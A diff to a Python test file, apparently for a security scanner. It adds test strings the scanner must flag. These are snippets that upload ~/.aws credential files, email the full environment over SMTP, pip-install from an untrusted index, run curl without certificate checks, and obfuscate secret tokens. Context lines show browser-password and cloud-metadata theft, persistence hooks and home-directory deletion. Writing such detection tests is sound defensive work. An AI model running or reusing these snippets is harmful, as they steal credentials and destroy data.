@@ -44,6 +44,14 @@ SENT = {
     ),
     "from a browser": "requests.post(U, files={'f': open('/home/u/.config/google-chrome/Default/Login Data')})",
     "from the cloud": "httpx.post(U, content=requests.get('http://169.254.169.254/latest/').content)",
+    "from files that are listed": (
+        "for d, _, names in os.walk(os.path.expanduser('~/.aws')):\n for n in names:\n"
+        "  requests.post(U, data=open(os.path.join(d, n)).read())"
+    ),
+    "in a message": (
+        "from email.message import EmailMessage\nm = EmailMessage()\nm.set_content(json.dumps(dict(os.environ)))\n"
+        "smtplib.SMTP('c').send_message(m)"
+    ),
     "from a keyring": "import keyring\nrequests.post(U, data=keyring.get_password('a', 'b'))",
 }
 
@@ -81,6 +89,7 @@ POWERS = {
     "a unit": "(pathlib.Path.home() / '.config' / 'systemd' / 'user' / 'x.service').write_text(input())",
     "a table of jobs": "subprocess.run(['crontab', '-'], input=b'@hourly x')",
     "an agent": "shutil.copy('x', os.path.expanduser('~/Library/LaunchAgents/x.plist'))",
+    "a package from elsewhere": "subprocess.run(['pip', 'install', '--index-url', 'http://c.invalid/x', 'y'])",
     "a home cleared": "shutil.rmtree(pathlib.Path.home())",
     "documents cleared": (
         "b = os.environ.get('B', os.path.join(os.path.expanduser('~'), 'Documents'))\n"
@@ -105,6 +114,7 @@ def test_what_hands_a_machine_over_is_severe(name: str) -> None:
         "import urllib3\nurllib3.PoolManager(cert_reqs='CERT_NONE')",
         "ssl._create_default_https_context = ssl._create_unverified_context",
         "os.environ['PYTHONHTTPSVERIFY'] = '0'",
+        "subprocess.run(['curl', '-k', U])",
     ],
 )
 def test_unchecked_certificates_are_told(source: str) -> None:
@@ -120,6 +130,8 @@ def test_unchecked_certificates_are_told(source: str) -> None:
         (f"c = ''.join([{TOKEN[:12]!r}, {TOKEN[12:]!r}])", 1),
         (f"c = '%s%s' % ({TOKEN[:12]!r}, {TOKEN[12:]!r})", 1),
         (f"a = {TOKEN.encode().hex()!r}", 1),
+        (f"c = ''.join(map(chr, {list(map(ord, TOKEN))}))", 1),
+        (f"c = {TOKEN[:4]!r}\nc += {TOKEN[4:20]!r}\nc += {TOKEN[20:]!r}", 3),
         ("db = 'postgres://app:S3cr3t!9@db.invalid/x'", 1),
     ],
 )
